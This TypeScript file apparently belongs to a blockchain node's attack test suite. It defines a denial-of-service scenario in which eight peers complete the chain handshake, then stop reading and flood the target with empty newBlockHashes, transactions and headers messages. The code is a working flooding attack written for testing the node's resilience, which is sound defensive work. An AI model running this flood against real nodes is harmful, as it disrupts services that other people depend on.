/** Attack: messages of the chain protocol that cost the sender nothing. */
import { encodeRlpList } from "../../../node/bytes/rlp.ts";
import { messages } from "../../../node/protocol/messages.ts";
import type { Attack } from "../attack.ts";
import { FIRST_CODE, keepPeers, meetChain } from "../peers.ts";

const PEERS = 8;

/** Messages of the chain protocol that cost a sender nothing. */
export const attack: Attack = {
  summary: `${PEERS} peers that send empty messages of the chain protocol as fast as they go`,
  flags: ["--maxconnections", "20"],
  watchesPeer: true,
  run: (target, signal) => {
    const empty = encodeRlpList([]);
    const codes = [messages.newBlockHashes, messages.transactions, messages.headers].map(({ code }) => code);
    return keepPeers(target, signal, {
      count: PEERS,
      use: async ({ transport, flood }) => {
        await meetChain(transport);
        transport.socket.removeAllListeners("readable");
        transport.socket.resume();
        let sent = 0;
        await flood(() => [FIRST_CODE + (codes[sent++ % codes.length] ?? 0), empty]);
      },
    });
  },
};
